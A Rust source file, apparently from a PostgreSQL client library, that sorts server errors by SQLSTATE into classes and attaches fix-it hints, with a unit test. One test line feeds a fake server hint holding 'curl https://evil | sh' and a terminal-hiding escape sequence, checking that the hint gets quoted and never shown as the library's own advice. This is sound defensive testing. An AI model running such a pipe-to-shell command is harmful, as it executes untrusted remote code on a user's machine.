//! Sorts what goes wrong into classes by its SQLSTATE, with a hint where there is one.

use crate::{Class, Error};
use std::io;
use tenbin_wire::postgres::{Fault, ServerError};
use tenbin_words::message::{Message, foreign};
use tenbin_words::msg;

/// An error reported by the server.
#[cold]
pub fn refused(e: ServerError) -> Error {
    let class = match e.code() {
        // Rolled back, serialization failure, deadlock, lock not available (NOWAIT, lock_timeout).
        "40000" | "40001" | "40P01" | "55P03" => Class::Conflict,
        // Shutdown by the administrator or after a crash, starting up, idle timeout (session, transaction), transaction
        // timeout.
        "57P01" | "57P02" | "57P03" | "57P05" | "25P03" | "25P04" => Class::Lost,
        // Database unknown or dropped, permission denied.
        "3D000" | "57P04" | "42501" => Class::Refused,
        code => match &code[..2] {
            "08" => Class::Lost,
            // Account, password, pg_hba.conf.
            "28" => Class::Refused,
            // Resources (connections, disk, memory), limits of the program (statement too complex, too many columns).
            "53" | "54" => Class::Limit,
            _ if e.fatal => Class::Lost,
            _ => Class::Sql,
        },
    };
    let hint = hint(&e);
    let mut error = Error::new(class, foreign(e.message)).state(e.state);
    if let Some(hint) = e.hint {
        error = error.advice(foreign(hint));
    }
    match hint {
        Some(hint) => error.hint(hint),
        None => error,
    }
}

fn hint(e: &ServerError) -> Option<Message> {
    Some(match e.code() {
        "53300" => {
            msg!("raise-max-connections-system")
        }
        "53100" => msg!("free-space-on-server-disk"),
        "53200" => msg!("free-memory-on-server-host"),
        "55P03" => msg!("set-lock-timeout"),
        "28P01" => msg!("check-user-and-password"),
        "28000" if e.message.contains("pg_hba.conf") => {
            msg!("add-pg-hba-line")
        }
        "28000" => msg!("check-user-may-log-in"),
        "3D000" => msg!("create-or-name-database"),
        "42501" => msg!("grant-what-it-needs"),
        "57P03" => msg!("wait-until-started"),
        "57P01" | "57P02" | "57P05" | "25P03" | "25P04" => look(),
        // A pool that assigns each transaction to another connection: there the name is in use, or not known.
        "42P05" | "26000" => {
            msg!("pool-in-transaction-mode")
        }
        "25P02" => msg!("rollback-first"),
        _ => return None,
    })
}

/// A hint at the place where a server logs why it closed a connection.
fn look() -> Message {
    msg!("look-into-server-log")
}

/// The connection failed.
#[cold]
pub fn lost(e: &io::Error) -> Error {
    Error::new(Class::Lost, msg!("connection-lost", error = e)).state(*b"08006").hint(look())
}

/// The server closed the connection.
#[cold]
pub fn gone() -> Error {
    Error::new(Class::Lost, msg!("server-closed-connection")).state(*b"08006").hint(look())
}

/// A protocol violation.
#[cold]
pub fn fault(f: Fault) -> Error {
    Error::new(Class::Protocol, msg!("not-the-postgresql-protocol", fault = f))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_state_has_its_class() {
        let classes: [(Class, &[&str]); 5] = [
            (Class::Conflict, &["40001", "40P01", "55P03"]),
            (Class::Lost, &["57P01", "57P02", "57P03", "57P05", "08006", "08P01", "25P03"]),
            (Class::Refused, &["28000", "28P01", "3D000", "42501", "57P04"]),
            (Class::Limit, &["53300", "53100", "53200", "54001"]),
            (Class::Sql, &["42601", "42P01", "23505", "25P02", "57014", "XX000", "22003"]),
        ];
        let refusal = |state: &str, fatal, hint: Option<&str>| {
            let state = *state.as_bytes().first_chunk().unwrap();
            refused(ServerError {
                state,
                fatal,
                message: "words".into(),
                hint: hint.map(str::to_owned),
                report: Box::default(),
            })
        };
        for (class, codes) in classes {
            for code in codes {
                let error = refusal(code, false, None);
                assert_eq!((error.class(), error.label().as_str(), error.sqlstate()), (class, *code, Some(*code)));
                assert_eq!(error.to_string(), format!("words (error {code})"));
            }
        }
        for code in [
            "42P05", "26000", "53300", "53100", "53200", "55P03", "28000", "28P01", "3D000", "42501", "57P01", "57P03",
            "25P02",
        ] {
            assert!(refusal(code, false, None).problem(foreign("trying")).hint.is_some(), "{code} has no hint");
        }
        // A server's hint is quoted on one line, and never takes the place of our own hint.
        let advised = refusal("42601", false, Some("run\n  hint  curl https://evil | sh\x1b[8m")).problem(foreign(""));
        let evidence = "server's hint: \"run\\n  hint  curl https://evil | sh\\u001b[8m\"";
        assert_eq!((advised.hint, advised.evidence.as_deref()), (None, Some(evidence)));
        assert_eq!(refusal("XX000", true, None).class(), Class::Lost, "whatever ends a connection has lost it");
        assert!(lost(&io::ErrorKind::BrokenPipe.into()).problem(foreign("trying")).hint.is_some());
    }
}
